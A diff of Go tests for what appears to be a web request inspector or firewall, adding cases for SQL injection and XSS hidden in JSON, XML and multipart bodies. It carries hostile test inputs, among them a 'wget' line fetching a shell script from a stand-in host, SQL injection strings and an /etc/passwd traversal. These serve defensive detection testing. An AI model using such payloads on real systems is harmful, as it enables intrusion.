@@ -71,6 +71,11 @@ func TestBodies(t *testing.T) {
 		{"untyped html", bodyRequest("", "<script>aaa</script>\n"), KindXSS, "body"},
 		{"text/plain", bodyRequest("text/plain", "hello; wget http://x.example/a.sh"), KindCmdInjection, "body"},
 		{"text/plain benign", bodyRequest("text/plain", "Hello, please deliver on Monday."), KindNone, ""},
+		// A document sent as a form is read as the document too.
+		{"json sent as a form", bodyRequest("application/x-www-form-urlencoded", `{"id":"1 OR 1=1"}`), KindSQLi, "json./id"},
+		{"json with quotes sent as a form", bodyRequest("application/x-www-form-urlencoded", `{"a":"1' OR '1'='1' --"}`), KindSQLi, "json./a"},
+		{"xml sent as a form", bodyRequest("application/x-www-form-urlencoded", `<a>1' OR '1'='1' --</a>`), KindSQLi, "xml./a"},
+		{"json sent as a form benign", bodyRequest("application/x-www-form-urlencoded", `{"name":"Jane","note":"ring twice = knock"}`), KindNone, ""},
 		{"binary skipped", bodyRequest("image/png", "<script>alert(1)</script>"), KindNone, ""},
 		{"octet-stream skipped", bodyRequest("application/octet-stream", "' or 1=1--"), KindNone, ""},
 		{"multipart lf", bodyRequest("multipart/form-data; boundary=bee3", "--bee3\nContent-disposition: form-data; name=\"/static/img/../../etc/passwd\"\n\nTest\n--bee3--\n"),
@@ -327,6 +332,10 @@ func TestMultipartFilenames(t *testing.T) {
 		{"benign dotfile", `filename=".env.example"`, "x", KindNone, ""},
 		// The content of a file is not inspected, text or not.
 		{"file content", `filename="page.html"`, "<script>alert(1)</script>", KindNone, ""},
+		// A file by filename* alone is a field to PHP: its content counts.
+		{"filename* alone, content", `filename*=UTF-8''x.txt`, "1' OR '1'='1' --", KindSQLi, "form.f"},
+		{"filename* beside filename, content", `filename="x.txt"; filename*=UTF-8''x.txt`, "1' OR '1'='1' --", KindNone, ""},
+		{"empty filename, content", `filename=""`, "<script>alert(1)</script>", KindXSS, "form.f"},
 	}
 	d := mustNew(t, Options{})
 	var sc Scratch
@@ -360,5 +369,30 @@ func TestNextParam(t *testing.T) {
 		if string(k) != tc.k || string(v) != tc.v || q != tc.quoted || string(rest) != tc.rest {
 			t.Errorf("nextParam(%q) = %q, %q, %v, %q; want %q, %q, %v, %q", tc.in, k, v, q, rest, tc.k, tc.v, tc.quoted, tc.rest)
 		}
+	}
+}
+
+// TestMultipartPartsAfterClose: a part after the closing delimiter, which
+// PHP reads and other readers do not, makes the body one tier 1 cannot
+// inspect whole (Truncated: refused in block mode).
+func TestMultipartPartsAfterClose(t *testing.T) {
+	d := mustNew(t, Options{})
+	var sc Scratch
+	for _, tc := range []struct {
+		name, body string
+		truncated  bool
+	}{
+		{"epilogue text", "--BB\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nx\r\n--BB--\r\nthe end\r\n", false},
+		{"a part after the close", "--BB\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nx\r\n--BB--\r\n--BB\r\n" +
+			"Content-Disposition: form-data; name=\"f\"\r\n\r\nhello\r\n--BB--\r\n", true},
+		{"lf body, a part after the close", "--BB\nContent-Disposition: form-data; name=\"a\"\n\nx\n--BB--\n--BB\n" +
+			"Content-Disposition: form-data; name=\"f\"\n\nhello\n--BB--\n", true},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			r := d.Inspect(&sc, bodyRequest("multipart/form-data; boundary=BB", tc.body), nil)
+			if r.Truncated != tc.truncated || r.Detected() {
+				t.Errorf("truncated %v, detected %v; want truncated %v", r.Truncated, r.Kind, tc.truncated)
+			}
+		})
 	}
 }
